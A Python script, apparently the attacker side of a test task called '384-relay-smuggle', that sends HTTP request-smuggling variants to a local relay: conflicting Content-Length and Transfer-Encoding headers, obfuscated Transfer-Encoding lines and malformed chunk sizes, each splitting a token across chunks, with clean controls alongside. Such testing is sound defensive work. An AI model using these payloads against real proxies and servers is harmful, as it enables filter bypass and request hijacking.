#!/usr/bin/env python3
# smuggle.py - the attacker's side of 384-relay-smuggle: HTTP/1.1 requests
# whose framing a lenient server reads otherwise than the relay's parser
# (request smuggling), each carrying TOKEN cut in two by a chunk boundary,
# so that only a server that de-chunks where the relay did not joins it.
# "clean" is the legitimate chunked form with no token.
# usage: smuggle.py MODE PORT TOKEN
import socket, sys, time
mode, port, tok = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
h = len(tok) // 2
a, b = tok[:h], tok[h:]
HD = b"POST /up HTTP/1.1\r\nHost: 127.0.0.1\r\n"
def chunks(parts, size=b"%x"):
    return b"".join(size % len(p) + b"\r\n" + p + b"\r\n" for p in parts) + b"0\r\n\r\n"
split = chunks([a, b])
r2 = b"POST /two HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n" + split
inner = b"0\r\n\r\n" + r2
forms = {
    # a server that takes the first length reads r2 as a second request
    "two-lengths": HD + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(r2) + r2,
    # the relay de-chunks, a server that prefers the length reads r2
    "cl-te": HD + b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n" +
             b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n",
    "two-te": HD + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + split,
    "te-space": HD + b"Transfer-Encoding : chunked\r\n\r\n" + split,
    "te-indent": HD + b" Transfer-Encoding: chunked\r\n\r\n" + split,
    "te-fold": HD + b"Transfer-Encoding: identity\r\n , chunked\r\n\r\n" + split,
    "te-bare-cr": HD + b"X-A: b\rTransfer-Encoding: chunked\r\n\r\n" + split,
    "chunk-0x": HD + b"Transfer-Encoding: chunked\r\n\r\n" + chunks([a, b], b"0x%x"),
    "chunk-4g": HD + b"Transfer-Encoding: chunked\r\n\r\n" + chunks([a, b], b"10000000%08x"),
    "clean": HD + b"Transfer-Encoding: chunked\r\n\r\n" + chunks([b"hello ", b"world"]),
    "clean-same-lengths": HD + b"Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
}
s = socket.create_connection(("127.0.0.1", port))
try:
    s.sendall(forms[mode]); time.sleep(0.3); s.settimeout(2); print(mode, s.recv(100))
except OSError as e:
    print(mode, "error", e)
